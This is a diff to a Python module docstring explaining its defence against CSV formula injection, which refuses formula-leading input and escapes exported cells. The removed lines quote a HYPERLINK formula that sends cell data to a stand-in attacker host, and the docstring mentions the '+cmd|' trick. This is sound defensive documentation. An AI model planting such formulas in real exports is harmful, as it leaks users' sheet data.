@@ -1,11 +1,9 @@
 """CSV cells a spreadsheet would run: refused on the way in, escaped on the way out.
 
-A cell starting with ``=``, ``+``, ``-``, ``@`` (or a tab or carriage return before one) is a
-formula to Excel, LibreOffice and Google Sheets: ``=HYPERLINK("http://evil.example/?x="&A1)``
-leaks the sheet, ``+cmd|...`` once ran programs. Following OWASP's advice on CSV injection,
-text typed into the database must not start so (:func:`formula_problems`), and every CSV the
-product writes for people to open goes through :func:`spreadsheet_safe`, which prefixes such a
-text cell with ``'`` (shown as text, not run). Numbers stay numbers: ``-2.5`` is no formula.
+A text cell starting with ``=``, ``+``, ``-``, ``@`` (or a tab or CR before one) is a formula to Excel,
+LibreOffice and Google Sheets (``=HYPERLINK(...&A1)`` leaks the sheet, ``+cmd|...`` once ran programs).
+Following OWASP, typed text must not start so (:func:`formula_problems`), and every CSV the product
+writes goes through :func:`spreadsheet_safe` (``'`` prefix). Numbers stay: ``-2.5`` is no formula.
 """
 
 from __future__ import annotations
